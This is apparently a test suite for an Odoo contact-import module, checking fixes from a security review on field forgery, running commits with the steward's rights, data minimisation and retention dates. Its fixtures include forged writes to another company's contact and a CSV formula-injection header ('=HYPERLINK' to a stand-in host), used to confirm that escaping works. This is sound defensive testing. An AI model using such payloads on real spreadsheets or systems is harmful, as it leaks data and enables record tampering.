"""Security review H1: an import's lines and its background commit trust nothing a steward could
have forged, and the commit runs with the steward's rights, not as superuser."""

import base64

from odoo import fields
from odoo.exceptions import AccessError
from odoo.tests import tagged

from ..models import hygiene_import_batch
from .common import HygieneCommon

CSV = "Prénom;Nom;Courriel\nJeanne;Lefevre;jeanne.lefevre@example.fr\n"


class ImportCommon(HygieneCommon):
    def _staged_file(self, text, user=None, source=None, **values):
        """A batch of ``text`` read and staged by ``user`` (the steward by default)."""
        batch = (
            self.env["hygiene.import.batch"]
            .with_user(user or self.user_steward)
            .create(
                {
                    "raw_file": base64.b64encode(text.encode()),
                    "raw_filename": "clients.csv",
                    "source_id": (source or self.source_shop).id,
                    **values,
                }
            )
        )
        batch.action_read_file()
        batch.action_stage()
        return batch


@tagged("post_install", "-at_install")
class TestImportForgery(ImportCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_b = cls.env["res.company"].create({"name": "Other Controller"})
        cls.victim = cls.env["res.partner"].create(
            {
                "name": "Victim Of Company B",
                "email": "victim.b@example.fr",
                "company_id": cls.company_b.id,
            }
        )

    def _staged(self):
        batch = self._staged_file(CSV)
        self.assertEqual(batch.state, "staged")
        return batch

    def test_steward_cannot_forge_line_values_or_the_batch_size(self):
        batch = self._staged()
        line = batch.line_ids
        for vals in (
            {"match_partner_id": self.victim.id},
            {"clean_values": '{"email": "x@attacker.test"}'},
            {"raw_values": "{}"},
            {"result_partner_id": self.victim.id},
        ):
            with self.subTest(vals=list(vals)), self.assertRaises(AccessError):
                line.write(vals)
        with self.assertRaises(AccessError):
            self.env["hygiene.import.line"].with_user(self.user_manager).create(
                {"batch_id": batch.id, "line_number": 9, "clean_values": "{}"}
            )
        for vals in ({"line_count": 5000}, {"state": "committing"}, {"launched_uid": 1}):
            with self.subTest(vals=list(vals)), self.assertRaises(AccessError):
                batch.write(vals)
        line.write({"decision": "skip"})  # the review itself stays open
        self.assertEqual(line.decision, "skip")

    def test_background_commit_runs_with_the_stewards_rights(self):
        """Even with the line tampered behind the ORM (match on another company's contact,
        forced down the cron path), the cron writes nothing the steward could not write."""
        batch = self._staged()
        line = batch.line_ids
        line.sudo().write(
            {
                "match_partner_id": self.victim.id,
                "decision": "update",
                "clean_values": '{"email": "x@attacker.test", "name": "Owned"}',
            }
        )
        self.patch(hygiene_import_batch, "SYNC_LIMIT", 0)
        batch.action_commit()
        self.assertEqual(batch.state, "committing", "left to the cron")
        self.assertEqual(batch.launched_uid, self.user_steward)
        for _i in range(5):
            self.env["hygiene.import.batch"]._cron_process()
        self.victim.invalidate_recordset()
        self.assertEqual(self.victim.email, "victim.b@example.fr")
        self.assertEqual(self.victim.name, "Victim Of Company B")
        self.assertEqual(batch.state, "done")
        self.assertEqual(line.decision, "quarantine")
        self.assertEqual(line.decision_reason, "commit_error")


@tagged("post_install", "-at_install")
class TestImportMinimisation(ImportCommon):
    """Security review M4: the staged copy of a file does not outlive the file, and the rows of
    a suppressed (erased or opted-out) person are not kept at all."""

    def _batch(self, text):
        return self._staged_file(text)

    def test_suppressed_row_keeps_no_personal_data(self):
        self.env["hygiene.suppression"]._suppress("erasure", email="erased.marker@example.fr")
        batch = self._batch("Prénom;Nom;Courriel\nEve;Effacemarker;erased.marker@example.fr\n")
        line = batch.line_ids.sudo()
        self.assertEqual(line.decision, "quarantine")
        self.assertEqual(line.decision_reason, "suppressed")
        self.env.flush_all()
        self.env.cr.execute(
            "SELECT to_jsonb(l)::text FROM hygiene_import_line l WHERE id = %s", [line.id]
        )
        row = self.env.cr.fetchone()[0]
        self.assertNotIn("marker", row.lower())

    def test_lines_blanked_with_the_file(self):
        batch = self._batch("Prénom;Nom;Courriel\nPaul;Blankmarker;paul.blank@example.fr\n")
        batch.action_commit()
        self.assertEqual(batch.state, "done")
        batch.sudo().raw_deletion_date = fields.Date.today()
        self.env["hygiene.import.batch"]._cron_delete_raw_files()
        self.env.flush_all()
        self.env.cr.execute(
            "SELECT string_agg(to_jsonb(l)::text, ' ') FROM hygiene_import_line l"
            " WHERE batch_id = %s",
            [batch.id],
        )
        self.assertNotIn("blankmarker", self.env.cr.fetchone()[0].lower())
        self.assertFalse(any(batch.mapping_ids.mapped("sample")))
        line = batch.line_ids
        self.assertEqual(line.line_number, 2)
        self.assertTrue(line.result_partner_id)

    def test_import_left_under_review_is_closed_at_the_date(self):
        batch = self._batch("Prénom;Nom;Courriel\nLea;Reviewmarker;lea.review@example.fr\n")
        self.assertEqual(batch.state, "staged")
        batch.sudo().raw_deletion_date = fields.Date.today()
        self.env["hygiene.import.batch"]._cron_delete_raw_files()
        self.assertEqual(batch.state, "cancelled")
        self.assertFalse(batch.line_ids.sudo().clean_values)


@tagged("post_install", "-at_install")
class TestImportLowFindings(ImportCommon):
    def _batch(self, text):
        return self._staged_file(text, purpose_id=self.purpose_newsletter.id)

    def test_l2_proof_ip_not_in_the_values_stewards_read(self):
        batch = self._batch(
            "email;optin;date optin;ip\nproof@example.fr;1;2024-01-01;203.0.113.77\n"
        )
        line = batch.line_ids.with_user(self.user_steward)
        self.assertNotIn("203.0.113.77", line.clean_values)
        self.assertNotIn("203.0.113.77", line.raw_values)
        batch.action_commit()
        event = self.env["hygiene.consent"].search([("partner_id.email", "=", "proof@example.fr")])
        self.assertEqual(event.with_user(self.user_officer).ip_address, "203.0.113.77")

    def test_l1_rejected_rows_header_is_escaped(self):
        batch = self._batch('nom;=HYPERLINK("https://x.test/?"&B2;email\nA;x;not an email\n')
        rejected = batch._rejected_csv().decode("utf-8-sig")
        header = rejected.splitlines()[0]
        self.assertNotIn(",=HYPERLINK", header)
        self.assertIn("'=HYPERLINK", header)


@tagged("post_install", "-at_install")
class TestImportRetentionClock(ImportCommon):
    """Attacker's pass V5: a steward's file moved the retention clock of contacts already in the
    base (an old collection date brought the erasure forward, a visit date kept them forever)."""

    def _import(self, user, text):
        batch = self._staged_file(text, user=user, source=self.source_fair)
        for line in batch.line_ids:
            if line.match_partner_id:
                line.decision = "update"
        batch.action_commit()
        return batch

    def test_steward_file_does_not_move_an_existing_contacts_clock(self):
        self.marc.invalidate_recordset()
        collected = self.marc.hygiene_collected_date
        activity = self.marc.hygiene_last_activity_date
        text = (
            "Nom;Courriel;date de creation;derniere visite\n"
            "Marc Dubois;marc.dubois@example.fr;01/01/2000;01/06/2026\n"
            "Nouvelle Personne;nouvelle.personne@example.fr;01/01/2015;\n"
        )
        batch = self._import(self.user_steward, text)
        self.marc.invalidate_recordset()
        self.assertNotEqual(str(self.marc.hygiene_collected_date)[:4], "2000")
        if collected:
            self.assertEqual(self.marc.hygiene_collected_date, collected)
        self.assertEqual(self.marc.hygiene_last_activity_date, activity)
        marc_line = batch.line_ids.filtered(lambda line: line.result_partner_id == self.marc)
        note = marc_line.decision_note
        self.assertIn("only a privacy officer", note)
        # a contact the file creates keeps the file's date: a legacy base is dated by its file
        new = self.env["res.partner"].search([("email", "=", "nouvelle.personne@example.fr")])
        self.assertEqual(str(new.hygiene_collected_date)[:4], "2015")

    def test_officer_file_may(self):
        self._import(
            self.user_officer,
            "Nom;Courriel;date de creation\nMarc Dubois;marc.dubois@example.fr;01/01/2000\n",
        )
        self.marc.invalidate_recordset()
        self.assertEqual(str(self.marc.hygiene_collected_date)[:4], "2000")
